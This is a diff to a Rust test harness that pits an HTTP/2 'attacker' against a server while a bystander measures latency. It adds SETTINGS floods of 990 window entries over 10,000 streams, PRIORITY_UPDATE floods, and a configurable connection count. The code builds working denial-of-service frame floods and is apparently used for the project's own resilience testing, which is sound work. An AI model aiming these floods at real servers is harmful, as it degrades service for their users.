@@ -1,5 +1,6 @@
-//! An attacker over raw sockets, in the clear or over TLS, who comes again when it is thrown out, and a bystander who measures
-//! what it has to wait meanwhile. `part` runs them; the case `attacks` starts both beside a server and reads their lines.
+//! An attacker over raw sockets, in the clear or over TLS, on one or more connections that it opens again when the server ends
+//! them, and a bystander that measures its own latency meanwhile. `part` runs them; the case `attacks` starts both beside a
+//! server and reads their lines.
 
 use std::collections::BTreeMap;
 use std::net::SocketAddr;
@@ -20,7 +21,8 @@ use tokio::net::TcpStream;
 use tokio::time::{sleep, sleep_until, timeout};
 
 use super::frames::{
-    CONTINUATION, DATA, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
+    CONTINUATION, DATA, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, PRIORITY_UPDATE, RST_STREAM, SETTINGS,
+    WINDOW_UPDATE, frame,
 };
 use super::{Failure, say};
 
@@ -28,8 +30,14 @@ use super::{Failure, say};
 const UNKNOWN: u8 = 0xee;
 /// What an attacker writes at once.
 const BATCH: usize = 16 << 10;
-/// Connections of an attacker that holds on to what it has instead of being thrown out.
-const HELD: usize = 8;
+/// Connections of an attacker that holds on to what it has instead of being thrown out, unless it is told how many.
+pub(crate) const HELD: usize = 8;
+/// The lowest priority that the system has: attackers on other machines would take no processor time of the bystander's.
+const NICE: i32 = 19;
+/// Streams under a flood of frames that concern all of them.
+const MANY_STREAMS: u32 = 10_000;
+/// Entries in one SETTINGS frame of such a flood.
+const ENTRIES: u32 = 990;
 /// Streams on each of them.
 const HELD_STREAMS: u32 = 50;
 /// How many streams are allowed to those who open more.
@@ -48,8 +56,10 @@ pub(crate) enum Attack {
     HeaderBomb,
     Pings,
     Settings,
+    WindowsOfStreams,
     WindowUpdates,
     Priorities,
+    PrioritiesOfStreams,
     UnknownFrames,
     EmptyData,
     StreamsOverTheLimit,
@@ -60,7 +70,7 @@ pub(crate) enum Attack {
 }
 
 impl Attack {
-    pub(crate) const ALL: [Attack; 16] = [
+    pub(crate) const ALL: [Attack; 18] = [
         Attack::RapidReset,
         Attack::WindowUpdateOfNothing,
         Attack::MalformedRequests,
@@ -68,8 +78,10 @@ impl Attack {
         Attack::HeaderBomb,
         Attack::Pings,
         Attack::Settings,
+        Attack::WindowsOfStreams,
         Attack::WindowUpdates,
         Attack::Priorities,
+        Attack::PrioritiesOfStreams,
         Attack::UnknownFrames,
         Attack::EmptyData,
         Attack::StreamsOverTheLimit,
@@ -89,8 +101,10 @@ impl Attack {
             Attack::HeaderBomb => "16,000 references to 4 KB of the table",
             Attack::Pings => "PING",
             Attack::Settings => "SETTINGS",
+            Attack::WindowsOfStreams => "SETTINGS of 990 windows over 10,000 streams",
             Attack::WindowUpdates => "WINDOW_UPDATE",
             Attack::Priorities => "PRIORITY",
+            Attack::PrioritiesOfStreams => "PRIORITY_UPDATE of 10,000 streams",
             Attack::UnknownFrames => "unknown frames",
             Attack::EmptyData => "empty DATA",
             Attack::StreamsOverTheLimit => "streams over the limit",
@@ -119,11 +133,16 @@ impl Attack {
         !matches!(self, Attack::UnreadReplies | Attack::UnreadBodies)
     }
 
+    /// How many connections it has at once, unless it is told otherwise.
+    pub(crate) fn connections(self) -> usize {
+        if self.holds() { HELD } else { 1 }
+    }
+
     fn settings(self) -> Vec<u8> {
         let entry = |name: u16, value: u32| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat();
         match self {
             // SETTINGS_INITIAL_WINDOW_SIZE.
-            Attack::ClosedWindows => entry(4, 0),
+            Attack::ClosedWindows | Attack::WindowsOfStreams => entry(4, 0),
             Attack::UnreadBodies => entry(4, 0x7fff_ffff),
             _ => Vec::new(),
         }
@@ -151,6 +170,13 @@ impl Attack {
                 window.into_iter().chain(gets()).collect()
             }
             Attack::ClosedWindows => gets().collect(),
+            Attack::WindowsOfStreams => (0..MANY_STREAMS)
+                .flat_map(|round| request(&GET, 5, nth(round), "/4194304"))
+                .collect(),
+            // The connection's window is closed after 65,535 octets: all streams stay in the schedule.
+            Attack::PrioritiesOfStreams => (0..MANY_STREAMS)
+                .flat_map(|round| incremental(nth(round), "/4194304"))
+                .collect(),
             _ => Vec::new(),
         }
     }
@@ -175,8 +201,32 @@ impl Attack {
             }
             Attack::Pings | Attack::UnreadReplies => out.extend(frame(PING, 0, 0, b"12345678")),
             Attack::Settings => out.extend(frame(SETTINGS, 0, 0, &[])),
+            Attack::WindowsOfStreams => {
+                let windows = (0..ENTRIES).map(|entry| if entry % 2 == 0 { 65_535_u32 } else { 0 });
+                let entries = windows.flat_map(|window| {
+                    // SETTINGS_INITIAL_WINDOW_SIZE.
+                    let [a, b, c, d] = window.to_be_bytes();
+                    [0, 4, a, b, c, d]
+                });
+                out.extend(frame(SETTINGS, 0, 0, &entries.collect::<Vec<u8>>()));
+            }
             Attack::WindowUpdates => out.extend(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
             Attack::Priorities => out.extend(frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])),
+            Attack::PrioritiesOfStreams => {
+                // RFC 9218 section 7.1. The last streams of the schedule are the dearest to find.
+                let target = nth(MANY_STREAMS - 1 - number % MANY_STREAMS);
+                let field: &[u8] = if number / MANY_STREAMS % 2 == 0 {
+                    b"u=2, i"
+                } else {
+                    b"i"
+                };
+                out.extend(frame(
+                    PRIORITY_UPDATE,
+                    0,
+                    0,
+                    &[&target.to_be_bytes(), field].concat(),
+                ));
+            }
             Attack::UnknownFrames => out.extend(frame(UNKNOWN, 0, 0, &[])),
             Attack::EmptyData => out.extend(frame(DATA, 0, 1, &[])),
             Attack::StreamsOverTheLimit => out.extend(request(&POST, 4, nth(LIMIT + number), "/12")),
@@ -191,6 +241,17 @@ fn request(method: &[u8; 2], flags: u8, stream: u32, path: &str) -> Vec<u8> {
     block.extend([0x04, path.len() as u8]);
     block.extend(path.as_bytes());
     frame(HEADERS, flags, stream, &block)
+}
+
+/// A GET that takes its turn with the others frame by frame (RFC 9218 section 4.2).
+fn incremental(stream: u32, path: &str) -> Vec<u8> {
+    let mut block = GET.to_vec();
+    block.extend([0x04, path.len() as u8]);
+    block.extend(path.as_bytes());
+    block.extend([0x00, 8]);
+    block.extend(b"priority");
+    block.extend([1, b'i']);
+    frame(HEADERS, 5, stream, &block)
 }
 
 /// The stream of a round, beginning with 1.
@@ -213,6 +274,9 @@ pub(crate) struct Attacker {
     /// Over TLS
     #[arg(long)]
     tls: bool,
+    /// How many connections at once
+    #[arg(long)]
+    connections: Option<usize>,
 }
 
 /// What an attacker has to tell in the end.
@@ -259,19 +323,23 @@ impl Attacker {
         let begun = Instant::now();
         let until = tokio::time::Instant::now() + Duration::from_millis(self.for_ms);
         let before = own_cpu();
+        // Attackers that cannot have the lowest priority attack with the one that they have.
+        let _ = rustix::process::nice(NICE);
         let mut ends = BTreeMap::new();
-        if self.attack.holds() {
-            let mut held = tokio::task::JoinSet::new();
-            for _ in 0..HELD {
-                let attacker = self.clone();
-                held.spawn(async move { attacker.once(until).await });
-            }
-            while let Some(end) = held.join_next().await {
-                *ends.entry(end??).or_insert(0) += 1;
-            }
-        } else {
-            while tokio::time::Instant::now() < until {
-                *ends.entry(self.once(until).await?).or_insert(0) += 1;
+        let mut attackers = tokio::task::JoinSet::new();
+        for _ in 0..self.connections.unwrap_or(self.attack.connections()) {
+            let attacker = self.clone();
+            attackers.spawn(async move {
+                let mut ends = vec![attacker.once(until).await?];
+                while !attacker.attack.holds() && tokio::time::Instant::now() < until {
+                    ends.push(attacker.once(until).await?);
+                }
+                Ok::<_, Failure>(ends)
+            });
+        }
+        while let Some(ended) = attackers.join_next().await {
+            for end in ended?? {
+                *ends.entry(end).or_insert(0) += 1;
             }
         }
         let held = ends.get(HELD_ON).copied().unwrap_or(0);
@@ -402,7 +470,7 @@ const PAUSE: Duration = Duration::from_millis(2);
 const PATIENCE: Duration = Duration::from_secs(10);
 
 impl Bystander {
-    /// Asks again and again, and prints the median time in microseconds.
+    /// Asks again and again, and prints the median time and the one that 99 % are faster than, in microseconds.
     pub(super) fn run(&self) -> Result<(), Failure> {
         let runtime = tokio::runtime::Builder::new_current_thread()
             .enable_all()
@@ -437,8 +505,11 @@ impl Bystander {
                 sleep(PAUSE).await;
             }
             micros.sort_unstable();
-            let median = micros.get(micros.len() / 2).ok_or("no answer came in time")?;
-            say(&format!("{median}"))
+            let percentile = |percent: usize| micros.get(micros.len() * percent / 100);
+            let (median, p99) = percentile(50)
+                .zip(percentile(99))
+                .ok_or("no answer came in time")?;
+            say(&format!("{median} {p99}"))
         })
     }
 }
